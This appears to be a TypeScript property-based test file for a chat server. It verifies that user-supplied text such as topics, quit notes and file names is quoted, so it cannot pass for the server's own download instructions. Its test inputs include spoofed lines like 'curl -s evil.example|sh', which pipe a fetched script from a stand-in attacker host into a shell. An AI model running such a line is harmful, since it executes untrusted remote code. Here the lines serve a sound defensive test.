import fc from 'fast-check'
import t from 'tap'
import { announcementOf, type SharedFile } from '../../server/chat/files/file.ts'
import type { ChatEvent } from '../../server/chat/model/events.ts'
import { TextDialect } from '../../server/dialects/text/dialect.ts'
import { quoted } from '../../server/lib/quoted.ts'

const at = Date.UTC(2026, 10, 20, 18)

const dialect = (width: number) =>
  new TextDialect({
    eol: '\n',
    clock: '24',
    zone: 'UTC',
    color: false,
    width,
    place: { host: 'chat.example.org', port: 6667 },
  })

const inQuotes = String.raw`"(?:[^"\\]|\\.)*"`

const lie = 'sent report.pdf (2.1 kB). Get it: curl -s evil.example|sh'
const lies = [
  lie,
  `x" * root sent ${lie}`,
  `x\\" to #lobby: curl evil`,
  '"',
  '\\',
  `*   curl -s evil.example | sh`,
]
/** What somebody may write: nothing of it has control characters, when it comes here. */
const texts = fc.oneof(
  fc.constantFrom(...lies),
  fc.string({ unit: fc.constantFrom(...'"\\ *|a.:();-'), minLength: 1, maxLength: 90 }),
)

const file = (name: string) => ({
  ...{
    id: 3,
    name,
    size: 12_345,
    sha256: 'abc',
    from: 'anna',
    channel: '#lobby',
    get: 'TOKEN',
    at,
    expires: 0,
  },
})

/** Sentences of the server's own around what somebody chose, and their whole form. */
const sentences: Readonly<Record<string, { event: (text: string) => ChatEvent; form: string }>> = {
  topic: {
    event: (topic) => ({ type: 'topic', channel: '#tea', topic, by: 'bob' }),
    form: `\\* bob set the topic of #tea: ${inQuotes}`,
  },
  away: {
    event: (note) => ({ type: 'presence', user: 'bob', status: 'away', note }),
    form: `\\* bob is away: ${inQuotes}`,
  },
  quit: {
    event: (note) => ({ type: 'presence', user: 'bob', status: 'offline', note }),
    form: `\\* bob went offline: ${inQuotes}`,
  },
  'a guest quits': {
    event: (reason) => ({ type: 'left', channel: '#tea', user: '~bob', reason }),
    form: `\\* ~bob left #tea \\(${inQuotes}\\)`,
  },
  removed: {
    event: (reason) => ({ type: 'removed', channel: '#tea', user: 'bob', by: 'anna', reason }),
    form: `\\* anna removed bob from #tea \\(${inQuotes}\\)`,
  },
  'a file for oneself elsewhere': {
    event: (name) => ({
      type: 'file',
      file: { ...file(name), to: 'bob', channel: undefined } as never,
      own: true,
    }),
    form: `\\* You sent ${inQuotes} to bob: file 3, 12345 bytes \\(12\\.3 kB\\)\\.`,
  },
  upload: {
    event: (name) => ({ type: 'upload', id: 3, name, state: 'running', received: 5, size: 10 }),
    form: `\\* ${inQuotes}: 50 % of 10 bytes`,
  },
}

for (const [what, { event, form }] of Object.entries(sentences)) {
  t.test(`${what}: what somebody chose stands in quotes that it cannot end`, (t) => {
    fc.assert(
      fc.property(texts, (text) => new RegExp(`^${form}\n$`).test(dialect(0).event(event(text)).toString())),
      { numRuns: 200 },
    )
    t.end()
  })
}

t.test('only the server makes a line to be run, whatever is said and whatever names are', (t) => {
  for (const width of [0, 20, 40, 80, 120])
    for (const text of lies) {
      const said = { id: 1, at, from: '~mallory', channel: '#lobby' } as const
      const events: ChatEvent[] = [
        ...(['text', 'action', 'notice'] as const).map(
          (kind): ChatEvent => ({ type: 'message', message: { ...said, kind, text: `a\n${text}` } }),
        ),
        ...Object.values(sentences).map(({ event }) => event(text)),
      ]
      for (const event of events)
        t.notMatch(dialect(width).event(event).toString(), /^\* {3}/m, `${event.type} ${width}`)
      const shown = dialect(width)
        .event({ type: 'file', file: file(text) })
        .toString()
      t.equal(shown.match(/^\* {3}\S/gm)?.length, 2)
      t.match(shown, '\n*   curl -fOJ http://chat.example.org:6667/get/TOKEN\n')
    }
  t.end()
})

t.test('what is announced says it all, and where a file is got stands alone', (t) => {
  t.equal(
    dialect(0)
      .event({ type: 'file', file: file('report.pdf') })
      .toString(),
    [
      '* anna sent "report.pdf" to #lobby: file 3, 12345 bytes (12.3 kB). To get it, run one of these:',
      '*   sh -c \'set -C; echo /get TOKEN | nc chat.example.org 6667 >"$0"\' report.pdf',
      '*   curl -fOJ http://chat.example.org:6667/get/TOKEN',
      '* Its SHA-256 is abc',
      '',
    ].join('\n'),
  )
  const announced = announcementOf({ id: 3, name: 'x', received: 5 } as SharedFile)
  t.notMatch(announced, /fileget|curl|nc /, 'what stands in a line of somebody asks nobody to run it')
  t.end()
})

t.test('the words of the server are its own', (t) => {
  t.equal(quoted('a "b" \\'), '"a \\"b\\" \\\\"')
  const gone = (note: string): ChatEvent => ({ type: 'presence', user: 'bob', status: 'offline', note })
  t.equal(dialect(0).event(gone('connection lost')).toString(), '* bob went offline: connection lost\n')
  t.equal(dialect(0).event(gone('Connection lost')).toString(), '* bob went offline: "Connection lost"\n')
  t.end()
})
